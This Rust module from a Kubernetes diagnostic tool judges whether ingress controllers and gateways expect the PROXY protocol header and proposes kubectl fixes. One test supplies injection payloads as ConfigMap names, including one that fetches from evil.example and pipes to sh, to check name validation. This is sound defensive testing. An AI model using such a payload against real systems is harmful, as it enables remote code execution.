//! Judges by its configuration whether an application expects the PROXY protocol header. Pure.
//!
//! Each of the usual ingress controllers and gateways has its own switch. For any other application the answer is unknown.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::facts::{BackendFacts, Container, Looked};
use crate::finding::{Evidence, Fix};

/// Whether an application expects the header.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Expectation {
    /// It requires the header from every client.
    Required,
    /// It accepts connections with and without the header.
    Either,
    /// No header.
    Off,
    /// The expectation is not known, for this reason.
    Unknown(String),
}

/// What an application expects, and the evidence.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Judgement {
    /// The program: `ingress-nginx`.
    pub program: &'static str,
    pub expects: Expectation,
    /// The configuration that shows the expectation.
    pub evidence: Vec<Evidence>,
    /// How to make the application accept the header; absent where its configuration is not known.
    pub switch: Option<Fix>,
}

impl Judgement {
    fn new(program: &'static str, expects: Expectation, evidence: Evidence, switch: Fix) -> Self {
        Self { program, expects, evidence: vec![evidence], switch: Some(switch) }
    }

    fn unknown(program: &'static str, why: impl Into<String>) -> Self {
        Self { program, expects: Expectation::Unknown(why.into()), evidence: Vec::new(), switch: None }
    }
}

/// Judges whether the application behind a Service expects the header.
pub fn judge(facts: &BackendFacts) -> Judgement {
    let judges: [fn(&BackendFacts) -> Option<Judgement>; 9] = [
        ingress_nginx,
        f5_nginx,
        nginx_gateway_fabric,
        envoy_gateway,
        traefik,
        haproxy_ingress,
        contour,
        istio,
        cilium,
    ];
    let known = judges.iter().find_map(|judge| judge(facts));
    known.unwrap_or_else(|| {
        let images: Vec<&str> = facts.containers.iter().map(|one| one.image.as_str()).collect();
        let images = images.join(", ");
        Judgement::unknown("the application", format!("doctor does not know this program ({images})"))
    })
}

/// Finds the container whose image, without its tag, ends with one of `images`, or that starts one of `programs`.
fn container<'a>(facts: &'a BackendFacts, images: &[&str], programs: &[&str]) -> Option<&'a Container> {
    facts.containers.iter().find(|container| {
        let image = container.image.split('@').next().unwrap_or_default();
        let (path, last) = image.rsplit_once('/').unwrap_or(("", image));
        let last = last.split(':').next().unwrap_or_default();
        let path = if path.is_empty() { last.to_owned() } else { format!("{path}/{last}") };
        let first = container.words.first().map(|word| word.rsplit('/').next().unwrap_or_default());
        images.iter().any(|image| path == *image || path.ends_with(&format!("/{image}")))
            || first.is_some_and(|first| programs.contains(&first))
    })
}

/// Returns the value of a flag, given as `--flag=value`, `-flag=value` or two words.
fn flag<'a>(container: &'a Container, name: &str) -> Option<&'a str> {
    let bare = |word: &'a str| word.trim_start_matches('-');
    let words = &container.words;
    words.iter().enumerate().find_map(|(place, word)| {
        let word = word.strip_prefix('-').map(bare)?;
        match word.split_once('=') {
            Some((key, value)) if key.eq_ignore_ascii_case(name) => Some(value),
            None if word.eq_ignore_ascii_case(name) => Some(
                words
                    .get(place + 1)
                    .map(String::as_str)
                    .filter(|next| !next.starts_with('-'))
                    .unwrap_or("true"),
            ),
            _ => None,
        }
    })
}

/// Whether a text is a valid name of a Kubernetes object. The name comes from the arguments of a pod, which may hold any text, and
/// goes into a path of the API server and into a command.
pub fn is_object_name(name: &str) -> bool {
    let is_label = |label: &str| {
        let inner = |letter: u8| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == b'-';
        label.bytes().all(inner) && !label.is_empty() && !label.starts_with('-') && !label.ends_with('-')
    };
    name.len() <= 253 && name.split('.').all(is_label)
}

fn config_map<'a>(
    facts: &'a BackendFacts,
    container: &Container,
    name: &str,
) -> Option<(&'a str, &'a Looked<BTreeMap<String, String>>)> {
    let named = flag(container, name)?;
    // The namespace is often a variable: `$(POD_NAMESPACE)/ingress-nginx-controller`.
    let last = named.rsplit('/').next().unwrap_or(named);
    let found = facts.config_maps.iter().find(|(key, _)| {
        key.as_str() == named || key.rsplit('/').next() == Some(last) && named.contains('$')
    });
    found.map(|(key, data)| (key.as_str(), data))
}

fn is_true(value: &str) -> bool {
    value.eq_ignore_ascii_case("true")
}

/// Judges a program that reads the switch from one key of one ConfigMap.
fn by_config_map(
    facts: &BackendFacts,
    container: &Container,
    program: &'static str,
    (map_flag, key): (&str, &str),
    expects: impl Fn(&str) -> Expectation,
    on: &str,
) -> Judgement {
    let Some((name, data)) = config_map(facts, container, map_flag) else {
        let text = format!("its ConfigMap could not be found by the flag --{map_flag}");
        return Judgement::unknown(program, text);
    };
    if !name.split('/').all(is_object_name) {
        let text = format!("its flag --{map_flag} names {name:?}, which is not a valid name of a ConfigMap");
        return Judgement::unknown(program, text);
    }
    let data = match data {
        Ok(data) => data,
        Err(cause) => {
            return Judgement::unknown(program, format!("its ConfigMap {name} cannot be read: {cause}"));
        }
    };
    let (namespace, short) = name.split_once('/').unwrap_or(("", name));
    let patch = json!({"data": {key: on}}).to_string();
    let switch = Fix::kubectl(namespace, ["patch", "configmap", short, "--type", "merge", "--patch", &patch]);
    let value = data.get(key);
    let expectation = value.map_or(Expectation::Off, |value| expects(value.trim()));
    let shown = value.map_or("absent", String::as_str);
    Judgement::new(program, expectation, Evidence::new(format!("ConfigMap {name}"), key, shown), switch)
}

fn required_if_true(value: &str) -> Expectation {
    if is_true(value) { Expectation::Required } else { Expectation::Off }
}

fn ingress_nginx(facts: &BackendFacts) -> Option<Judgement> {
    let images = ["ingress-nginx/controller", "rancher/nginx-ingress-controller", "nginx-ingress-controller"];
    let container = container(facts, &images, &["nginx-ingress-controller"])?;
    let key = ("configmap", "use-proxy-protocol");
    Some(by_config_map(facts, container, "ingress-nginx", key, required_if_true, "true"))
}

fn f5_nginx(facts: &BackendFacts) -> Option<Judgement> {
    let images = ["nginx/nginx-ingress", "nginx-ic/nginx-plus-ingress"];
    let container = container(facts, &images, &["nginx-ingress"])?;
    let key = ("nginx-configmaps", "proxy-protocol");
    Some(by_config_map(facts, container, "NGINX Ingress Controller", key, required_if_true, "True"))
}

fn haproxy_ingress(facts: &BackendFacts) -> Option<Judgement> {
    let container = container(facts, &["haproxytech/kubernetes-ingress"], &["haproxy-ingress-controller"])?;
    // HAProxy Ingress takes the header from the listed networks, and connections without it from all others.
    let expects = |value: &str| if value.is_empty() { Expectation::Off } else { Expectation::Either };
    let key = ("configmap", "proxy-protocol");
    Some(by_config_map(facts, container, "HAProxy Ingress", key, expects, "CIDR of the load balancer"))
}

/// Judges by the first custom resource of a kind that has the setting.
fn by_resource(
    facts: &BackendFacts,
    program: &'static str,
    kind: &str,
    switch: &'static str,
    read: impl Fn(&Value) -> Option<(Expectation, String)>,
) -> Judgement {
    if let Some(cause) = facts.unread.get(kind) {
        return Judgement::unknown(program, format!("{kind} objects cannot be read: {cause}"));
    }
    let resources = facts.resources.iter().filter(|resource| resource.kind == kind);
    let said = resources.filter_map(|resource| Some((resource, read(&resource.spec)?))).next();
    match said {
        Some((resource, (expects, field))) => {
            let object = format!("{kind} {}", resource.name);
            Judgement::new(program, expects, Evidence::new(object, field, "set"), switch.into())
        }
        None => {
            let evidence = Evidence::new(kind, "PROXY protocol", "not switched on in any");
            Judgement::new(program, Expectation::Off, evidence, switch.into())
        }
    }
}

fn nginx_gateway_fabric(facts: &BackendFacts) -> Option<Judgement> {
    container(facts, &["nginx-gateway-fabric/nginx", "nginx-gateway-fabric/nginx-plus"], &[])?;
    let switch = "NginxProxy: spec.rewriteClientIP.mode: ProxyProtocol";
    Some(by_resource(facts, "NGINX Gateway Fabric", "NginxProxy", switch, |spec| {
        let mode = spec["rewriteClientIP"]["mode"].as_str()?;
        (mode == "ProxyProtocol").then(|| (Expectation::Required, "rewriteClientIP.mode".to_owned()))
    }))
}

fn envoy_gateway(facts: &BackendFacts) -> Option<Judgement> {
    let label = |key: &str| facts.labels.get(key).map(String::as_str);
    (label("app.kubernetes.io/managed-by") == Some("envoy-gateway")).then_some(())?;
    let switch = "ClientTrafficPolicy: spec.proxyProtocol: {optional: true}";
    Some(by_resource(facts, "Envoy Gateway", "ClientTrafficPolicy", switch, |spec| {
        if let Some(proxy) = spec.get("proxyProtocol").filter(|proxy| !proxy.is_null()) {
            let optional = proxy["optional"].as_bool() == Some(true);
            let expects = if optional { Expectation::Either } else { Expectation::Required };
            return Some((expects, "proxyProtocol".to_owned()));
        }
        let old = spec["enableProxyProtocol"].as_bool() == Some(true);
        old.then(|| (Expectation::Required, "enableProxyProtocol".to_owned()))
    }))
}

/// Traefik accepts connections with and without the header. A file may configure it too, which is not read.
fn traefik(facts: &BackendFacts) -> Option<Judgement> {
    let container = container(facts, &["traefik", "traefik/traefik"], &["traefik"])?;
    let of_proxy = |word: &&String| {
        let word = word.to_ascii_lowercase();
        word.starts_with("--entrypoints.") && word.contains(".proxyprotocol.")
    };
    let switch = "--entryPoints.NAME.proxyProtocol.trustedIPs=CIDR of the load balancer";
    let pod = format!("pod {}", facts.pod);
    if let Some(word) = container.words.iter().find(of_proxy) {
        return Some(Judgement::new(
            "Traefik",
            Expectation::Either,
            Evidence::new(pod, "argument", word),
            switch.into(),
        ));
    }
    if flag(container, "configfile").is_some() {
        return Some(Judgement::unknown(
            "Traefik",
            "its configuration is in a file, which doctor does not read",
        ));
    }
    let evidence = Evidence::new(pod, "arguments", "no proxyProtocol of an entry point");
    Some(Judgement::new("Traefik", Expectation::Off, evidence, switch.into()))
}

fn contour(facts: &BackendFacts) -> Option<Judgement> {
    let is_envoy = container(facts, &["envoyproxy/envoy"], &[]).is_some();
    let label = facts.labels.get("app").or_else(|| facts.labels.get("app.kubernetes.io/component"));
    let by_contour =
        facts.containers.iter().any(|one| one.words.first().is_some_and(|word| word == "contour"));
    (is_envoy && (by_contour || label.is_some_and(|label| label == "envoy"))).then_some(())?;
    let switch =
        "ContourConfiguration: spec.envoy.listener.useProxyProtocol: true, or the flag --use-proxy-protocol";
    Some(by_resource(facts, "Contour", "ContourConfiguration", switch, |spec| {
        let on = spec["envoy"]["listener"]["useProxyProtocol"].as_bool() == Some(true);
        on.then(|| (Expectation::Required, "envoy.listener.useProxyProtocol".to_owned()))
    }))
    .map(|judgement| match judgement.expects {
        // The flag of Contour's other Deployment is not read.
        Expectation::Off if facts.resources.iter().all(|one| one.kind != "ContourConfiguration") => {
            Judgement::unknown(
                "Contour",
                "there is no ContourConfiguration, and doctor does not read the flag --use-proxy-protocol",
            )
        }
        _ => judgement,
    })
}

fn istio(facts: &BackendFacts) -> Option<Judgement> {
    container(facts, &["istio/proxyv2", "proxyv2"], &[])?;
    let switch = "pod annotation proxy.istio.io/config: '{\"gatewayTopology\": {\"proxyProtocol\": {}}}'";
    if let Some(config) = facts.annotations.get("proxy.istio.io/config")
        && config.contains("proxyProtocol")
    {
        let evidence = Evidence::new(format!("pod {}", facts.pod), "proxy.istio.io/config", config);
        return Some(Judgement::new("Istio", Expectation::Required, evidence, switch.into()));
    }
    match facts.config_maps.get("istio-system/istio") {
        Some(Ok(data)) => {
            let mesh = data.get("mesh").map(String::as_str).unwrap_or_default();
            let on = mesh.contains("proxyProtocol");
            let expects = if on { Expectation::Required } else { Expectation::Off };
            let shown = if on { "gatewayTopology.proxyProtocol" } else { "no proxyProtocol" };
            let evidence = Evidence::new("ConfigMap istio-system/istio", "mesh", shown);
            Some(Judgement::new("Istio", expects, evidence, switch.into()))
        }
        Some(Err(cause)) => {
            Some(Judgement::unknown("Istio", format!("ConfigMap istio-system/istio cannot be read: {cause}")))
        }
        None => Some(Judgement::unknown("Istio", "there is no ConfigMap istio-system/istio")),
    }
}

fn cilium(facts: &BackendFacts) -> Option<Judgement> {
    let owned = facts
        .labels
        .keys()
        .any(|key| key == "cilium.io/ingress" || key == "io.cilium.gateway/owning-gateway");
    owned.then_some(())?;
    let key = if facts.labels.contains_key("cilium.io/ingress") {
        "enable-ingress-proxy-protocol"
    } else {
        "enable-gateway-api-proxy-protocol"
    };
    let switch = "Helm: ingressController.enableProxyProtocol or gatewayAPI.enableProxyProtocol";
    match facts.config_maps.get("kube-system/cilium-config") {
        Some(Ok(data)) => {
            let value = data.get(key).map_or("absent", String::as_str);
            let evidence = Evidence::new("ConfigMap kube-system/cilium-config", key, value);
            Some(Judgement::new("Cilium", required_if_true(value), evidence, switch.into()))
        }
        Some(Err(cause)) => Some(Judgement::unknown(
            "Cilium",
            format!("ConfigMap kube-system/cilium-config cannot be read: {cause}"),
        )),
        None => Some(Judgement::unknown("Cilium", "there is no ConfigMap kube-system/cilium-config")),
    }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::facts::CustomResource;

    fn running(image: &str, words: &[&str]) -> BackendFacts {
        let words = words.iter().map(|word| (*word).to_owned()).collect();
        BackendFacts {
            pod: "web-1".into(),
            containers: vec![Container { image: image.into(), words, ports: Vec::new() }],
            ..BackendFacts::default()
        }
    }

    fn with_map(mut facts: BackendFacts, name: &str, key: &str, value: Option<&str>) -> BackendFacts {
        let data = value.map(|value| (key.to_owned(), value.to_owned())).into_iter().collect();
        facts.config_maps.insert(name.to_owned(), Ok(data));
        facts
    }

    const NGINX: &str = "registry.example.org/ingress-nginx/controller:v1.15.1@sha256:00";
    const NGINX_FLAGS: [&str; 2] =
        ["/nginx-ingress-controller", "--configmap=$(POD_NAMESPACE)/ingress-nginx-controller"];

    #[rstest]
    #[case::on(Some("true"), Expectation::Required)]
    #[case::off(Some("false"), Expectation::Off)]
    #[case::absent(None, Expectation::Off)]
    fn ingress_nginx_is_read_from_its_config_map(#[case] value: Option<&str>, #[case] expected: Expectation) {
        let facts = with_map(
            running(NGINX, &NGINX_FLAGS),
            "ingress/ingress-nginx-controller",
            "use-proxy-protocol",
            value,
        );
        let judgement = judge(&facts);
        assert_eq!((judgement.program, judgement.expects), ("ingress-nginx", expected));
        assert_eq!(
            judgement.switch.unwrap().to_string(),
            "kubectl --namespace ingress patch configmap ingress-nginx-controller --type merge \
             --patch '{\"data\":{\"use-proxy-protocol\":\"true\"}}'"
        );
    }

    #[test]
    fn what_cannot_be_read_is_not_known() {
        let mut facts = running(NGINX, &NGINX_FLAGS);
        assert!(matches!(judge(&facts).expects, Expectation::Unknown(_)));
        facts.config_maps.insert("ingress/ingress-nginx-controller".into(), Err("forbidden".into()));
        let Expectation::Unknown(why) = judge(&facts).expects else { panic!("it is known") };
        assert!(why.contains("forbidden"), "{why}");
        assert!(matches!(judge(&running("example.org/shop:1", &[])).expects, Expectation::Unknown(_)));
    }

    /// Any user who may run a pod may write any text into its arguments.
    #[test]
    fn a_name_that_no_config_map_can_have_is_not_known() {
        for name in ["nginx?$(curl${IFS}evil.example|sh)", "a b", "../secrets/x", "-n", ""] {
            let flag = format!("--configmap=ns/{name}");
            let facts = running(NGINX, &["/nginx-ingress-controller", &flag]);
            let judgement = judge(&with_map(facts, &format!("ns/{name}"), "use-proxy-protocol", None));
            assert!(matches!(judgement.expects, Expectation::Unknown(_)), "{name}");
            assert_eq!(judgement.switch, None, "{name}");
        }
    }

    #[test]
    fn f5_and_haproxy_are_read_from_their_config_maps() {
        let f5 =
            running("docker.example.org/nginx/nginx-ingress:5.3", &["-nginx-configmaps=ns/nginx-config"]);
        let f5 = with_map(f5, "ns/nginx-config", "proxy-protocol", Some("True"));
        assert_eq!(judge(&f5).expects, Expectation::Required);
        let haproxy = running("haproxytech/kubernetes-ingress:3.2", &["--configmap=ns/haproxy"]);
        let haproxy = with_map(haproxy, "ns/haproxy", "proxy-protocol", Some("10.0.0.0/24"));
        assert_eq!(judge(&haproxy).expects, Expectation::Either);
    }

    #[rstest]
    #[case::trusted(&["traefik", "--entryPoints.websecure.proxyProtocol.trustedIPs=10.0.0.0/24"], Expectation::Either)]
    #[case::insecure(&["--entrypoints.web.proxyprotocol.insecure"], Expectation::Either)]
    #[case::without(&["--entryPoints.web.address=:8000/tcp"], Expectation::Off)]
    fn traefik_accepts_both(#[case] words: &[&str], #[case] expected: Expectation) {
        assert_eq!(judge(&running("docker.io/traefik:v3.5", words)).expects, expected);
    }

    #[rstest]
    #[case::optional(json!({"proxyProtocol": {"optional": true}}), Expectation::Either)]
    #[case::strict(json!({"proxyProtocol": {}}), Expectation::Required)]
    #[case::old(json!({"enableProxyProtocol": true}), Expectation::Required)]
    #[case::off(json!({}), Expectation::Off)]
    fn envoy_gateway_is_read_from_its_policies(#[case] spec: Value, #[case] expected: Expectation) {
        let mut facts = running("envoyproxy/envoy:v1.35", &["envoy"]);
        facts.labels.insert("app.kubernetes.io/managed-by".into(), "envoy-gateway".into());
        facts.resources.push(CustomResource { kind: "ClientTrafficPolicy", name: "ns/p".into(), spec });
        assert_eq!(judge(&facts).expects, expected);
        facts.unread.insert("ClientTrafficPolicy".into(), "forbidden".into());
        assert!(matches!(judge(&facts).expects, Expectation::Unknown(_)));
    }

    #[test]
    fn gateways_are_read_from_what_configures_them() {
        let mut fabric = running("ghcr.example.org/nginx/nginx-gateway-fabric/nginx:2.1", &[]);
        let spec = json!({"rewriteClientIP": {"mode": "ProxyProtocol"}});
        fabric.resources.push(CustomResource { kind: "NginxProxy", name: "ns/p".into(), spec });
        assert_eq!(judge(&fabric).expects, Expectation::Required);
        let mut contour = running("docker.io/envoyproxy/envoy:v1.35", &["envoy"]);
        contour.labels.insert("app".into(), "envoy".into());
        assert!(matches!(judge(&contour).expects, Expectation::Unknown(_)));
        let spec = json!({"envoy": {"listener": {"useProxyProtocol": true}}});
        contour.resources.push(CustomResource { kind: "ContourConfiguration", name: "ns/p".into(), spec });
        assert_eq!(judge(&contour).expects, Expectation::Required);
        let istio = with_map(
            running("istio/proxyv2:1.27", &[]),
            "istio-system/istio",
            "mesh",
            Some("defaultConfig: {}"),
        );
        assert_eq!(judge(&istio).expects, Expectation::Off);
        let mut cilium = running("cilium/cilium-envoy", &[]);
        cilium.labels.insert("cilium.io/ingress".into(), "true".into());
        let cilium =
            with_map(cilium, "kube-system/cilium-config", "enable-ingress-proxy-protocol", Some("true"));
        assert_eq!(judge(&cilium).expects, Expectation::Required);
    }
}
